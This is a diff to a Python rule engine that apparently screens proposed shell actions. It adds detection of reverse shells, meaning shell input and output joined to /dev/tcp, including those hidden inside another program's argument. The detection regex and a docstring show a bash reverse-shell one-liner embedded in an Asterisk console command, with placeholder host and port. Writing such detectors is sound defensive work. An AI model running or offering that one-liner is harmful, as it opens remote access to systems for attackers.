@@ -3269,7 +3269,29 @@ def _may_reach_a_shell(action: Action) -> bool:
         "dev_tcp" in action.notes
         or bool(action.payloads)
         or any(c.name in _REMOTE_SHELL_NAMES or _is_shell(c) or _runs_code(c.name) for c in action.commands)
+        or any(_names_socket(w) for c in action.commands for w in c.argv[1:])
     )
+
+
+def _names_socket(word: str) -> bool:
+    return "/dev/tcp/" in word or "/dev/udp/" in word
+
+
+# A shell's input and output joined to bash's network path, spelt inside another program's argument (a PBX
+# console's `System(...)`, a job's command field): what that program runs is a reverse shell
+_EMBEDDED_REVERSE_SHELL = re.compile(
+    r"(?:\b(?:ba|z|k|da)?sh\s+-i\b[^\n]{0,40}?|\b(?:exec\s+)?\d*<>)\s*/dev/(?:tcp|udp)/[^/\s]+/\d+"
+    r"|/dev/(?:tcp|udp)/[^/\s]+/\d+\s*0?>&\s*1"
+)
+
+
+def _embedded_reverse_shell(action: Action) -> str:
+    """The program whose argument spells a reverse shell (`asterisk -rx "... System(bash -i >& /dev/tcp/H/P
+    0>&1)"`), or ""."""
+    for command in action.commands:
+        if any(_names_socket(w) and _EMBEDDED_REVERSE_SHELL.search(w) for w in command.argv[1:]):
+            return command.name
+    return ""
 
 
 @rule(ReasonCode.REMOTE_SHELL, needs="acting")
@@ -3288,6 +3310,10 @@ def remote_shell(action: Action, ctx: Context) -> Iterator[Finding]:
     why = _remote_shell_auth(action)
     if why:
         yield _finding(ReasonCode.REMOTE_SHELL, Verdict.AUTH, 70, why)
+        return
+    if carrier := _embedded_reverse_shell(action):
+        detail = f"an argument of {carrier} spells a reverse shell (a shell joined to /dev/tcp)"
+        yield _finding(ReasonCode.REMOTE_SHELL, Verdict.AUTH, 85, detail)
 
 
 # --------------------------------------------------------------------------- defence_evasion
